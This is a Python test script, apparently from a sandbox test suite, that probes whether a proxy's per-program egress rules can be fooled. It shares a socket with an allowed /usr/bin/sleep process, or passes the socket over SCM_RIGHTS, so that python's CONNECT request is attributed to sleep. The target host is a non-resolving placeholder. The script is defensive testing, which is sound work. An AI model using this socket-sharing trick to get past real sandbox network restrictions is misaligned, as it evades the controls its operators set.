# `from` rules on the proxy: the proxy attributes a connection to *a* sandboxed process
# holding the socket. A socket shared with an allowed program (here /usr/bin/sleep, the
# only program allowed `mxc-escape.invalid:443` by escapes.mxc) makes python's request
# look like sleep's. The name does not resolve: an allowed request is answered 502
# (cannot connect), a denied one 403.
from _lib import *
import socket, subprocess, time
proxy = os.environ["HTTP_PROXY"].rsplit("/", 1)[-1].rstrip("/")
host, port = proxy.rsplit(":", 1)
port = int(port)

def ask(share):
    s = socket.socket()
    p = None
    if share:
        p = subprocess.Popen(["/usr/bin/sleep", "30"], pass_fds=[s.fileno()])
        for _ in range(100):
            try:
                if os.readlink(f"/proc/{p.pid}/exe") == "/usr/bin/sleep":
                    break
            except OSError:
                pass
            time.sleep(0.01)
    try:
        s.settimeout(20)
        s.connect((host, port))
        s.sendall(b"CONNECT mxc-escape.invalid:443 HTTP/1.1\r\nHost: mxc-escape.invalid:443\r\n\r\n")
        return s.recv(200).split(b"\r\n")[0].decode()
    finally:
        s.close()
        if p:
            p.kill()
            p.wait()

def as_python():
    r = ask(False)
    if " 403 " in r:
        raise OSError(13, r)
    return r
attack("python asks the proxy for sleep's host", as_python)

def shared():
    seen = []
    for _ in range(12):
        r = ask(True)
        seen.append(r)
        if " 403 " not in r:
            return f"decided as sleep's: {r}"
    raise OSError(13, f"always {seen[0]}")
attack("python asks through a socket it shares with sleep", shared)

# The same with no copy of its own while the proxy looks: python connects, puts its
# socket in flight (SCM_RIGHTS over a socketpair: held by no process at all) and
# closes it, so only sleep holds the socket; then takes it back and asks.
def in_flight():
    seen = []
    for _ in range(6):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        s = socket.socket()
        p = subprocess.Popen(["/usr/bin/sleep", "30"], pass_fds=[s.fileno()])
        try:
            for _ in range(100):
                try:
                    if os.readlink(f"/proc/{p.pid}/exe") == "/usr/bin/sleep":
                        break
                except OSError:
                    pass
                time.sleep(0.01)
            s.setblocking(False)
            try:
                s.connect((host, port))
            except BlockingIOError:
                pass
            socket.send_fds(a, [b"x"], [s.fileno()])
            os.close(s.detach())
            time.sleep(0.5)
            _, fds, _, _ = socket.recv_fds(b, 1, 1)
            t = socket.socket(fileno=fds[0])
            t.setblocking(True)
            t.settimeout(20)
            t.sendall(b"CONNECT mxc-escape.invalid:443 HTTP/1.1\r\nHost: mxc-escape.invalid:443\r\n\r\n")
            r = t.recv(200).split(b"\r\n")[0].decode()
            t.close()
        finally:
            p.kill()
            p.wait()
            a.close()
            b.close()
        seen.append(r)
        if " 403 " not in r:
            return f"decided as sleep's: {r}"
    raise OSError(13, f"always {seen[0]}")
attack("python hands its socket to sleep alone while the proxy looks", in_flight)
